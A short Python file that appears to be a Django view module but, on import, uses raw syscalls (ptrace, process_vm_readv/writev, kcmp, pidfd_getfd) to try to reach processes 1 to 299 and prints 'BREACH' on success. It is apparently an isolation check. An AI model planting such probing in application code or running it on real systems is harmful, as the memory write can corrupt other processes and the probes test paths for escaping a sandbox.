import ctypes
import errno
import os

from django.http import HttpResponse

libc = ctypes.CDLL(None, use_errno=True)
PTRACE, READV, WRITEV = {"x86_64": (101, 310, 311), "aarch64": (117, 270, 271)}[os.uname().machine]
ATTACH, SEIZE = 16, 0x4206
KCMP, PIDFD_GETFD = {"x86_64": 312, "aarch64": 272}[os.uname().machine], 438
told = set()
here = ctypes.create_string_buffer(8)
vector = (ctypes.c_size_t * 2)(ctypes.addressof(here), 8)
for pid in range(1, 300):
    if pid == os.getpid():
        continue
    for name, call in {
        "attach": (PTRACE, ATTACH, pid, 0, 0),
        "seize": (PTRACE, SEIZE, pid, 0, 0),
        "read": (READV, pid, vector, 1, vector, 1, 0),
        "write": (WRITEV, pid, vector, 1, vector, 1, 0),
        "compare": (KCMP, os.getpid(), pid, 0, 0, 0),
        "descriptor": (PIDFD_GETFD, pid, 3, 0),
    }.items():
        if libc.syscall(*call) >= 0:
            print("BREACH", name, pid)
        told.add(f"{name} {errno.errorcode[ctypes.get_errno()]}")
print(*sorted(told), sep="\n")


def view(request):
    return HttpResponse()
